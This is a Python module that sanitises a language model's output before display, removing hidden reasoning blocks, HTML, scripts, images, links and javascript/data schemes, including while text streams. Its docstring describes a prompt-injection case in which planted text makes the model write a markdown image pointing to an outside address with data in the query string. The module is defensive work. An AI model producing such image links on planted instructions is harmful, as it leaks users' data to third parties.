"""A model's text in; the same text without images, links, HTML and hidden reasoning out; made harmless while it streams.

A passage may carry words planted to make the model write `![](https://elsewhere/?q=...)`, which a browser would fetch.
Plain markdown (lists, tables, emphasis, code) and citation markers stay.
"""

import re
from collections.abc import Iterable, Iterator

THINKING = re.compile(r"<think(?:ing)?>.*?(?:</think(?:ing)?>\s*|\Z)", re.DOTALL | re.IGNORECASE)
COMMENT = re.compile(r"<!--.*?(?:-->|\Z)", re.DOTALL)
INERT = re.compile(r"<(script|style|iframe|object|svg)\b.*?(?:</\1\s*>|\Z)", re.DOTALL | re.IGNORECASE)
AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|javascript|data):[^>\s]*)>", re.IGNORECASE)
LINE_BREAK = re.compile(r"<br\s*/?>", re.IGNORECASE)
TAG = re.compile(r"</?[a-zA-Z][^<>]*>")
IMAGE = re.compile(r"!\[([^\[\]]*)\]\s?(?:\([^()]*(?:\([^()]*\)[^()]*)*\)|\[[^\[\]]*\])")
LINK = re.compile(r"(?<!!)\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\((?:[^()]|\([^()]*\))*\)")
REFERENCE_LINK = re.compile(r"\[([^\[\]]*[^\[\]\d\s,][^\[\]]*)\]\[[^\[\]]*[^\[\]\d\s,][^\[\]]*\]")
DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]+\]:[^\n]*$", re.MULTILINE)
BARE_LINK = re.compile(r"(?<![`\w])(?:(?:https?|ftp)://|www\.)[^\s<>`|)\]]+[^\s<>`|)\].,;:!?'\"]", re.IGNORECASE)
SCHEME = re.compile(r"\b(?:javascript|vbscript|data)\s*:(?=\S)", re.IGNORECASE)


def clean(text: str) -> str:
    """The text fit to be shown as markdown. A web address stays readable, as code that nobody can click."""
    while (safer := without_constructs(text)) != text:  # what is taken out may leave the parts of another around it
        text = safer
    return BARE_LINK.sub(lambda match: f"`{match.group()}`", defuse(text))


def without_constructs(text: str) -> str:
    for pattern in (THINKING, COMMENT, INERT):
        text = pattern.sub("", text)
    text = AUTOLINK.sub(lambda match: match[1], text)
    text = TAG.sub("", LINE_BREAK.sub(" ", text))
    text = DEFINITION.sub("", text)
    text = IMAGE.sub("", text)
    text = LINK.sub(lambda match: f"[{match[1]}]" if match[1].isdigit() else match[1], text)
    text = REFERENCE_LINK.sub(lambda match: match[1], text)
    return SCHEME.sub("", re.sub(r"!+(?=\[)", "", text))


def defused(pieces: Iterable[str]) -> Iterator[str]:
    """The text as it streams, with the beginnings of images, links and tags broken, so that a browser has nothing to fetch."""
    held = ""
    for piece in pieces:
        text = held + piece
        kept = len(text.rstrip("!]<"))
        text, held = text[:kept], text[kept:]
        if text:
            yield defuse(text)
    if held:
        yield defuse(held)


def defuse(text: str) -> str:
    return re.sub(r"<(?=[a-zA-Z/!?])", "‹", re.sub(r"!+(?=\[)", "", text).replace("](", "] ("))
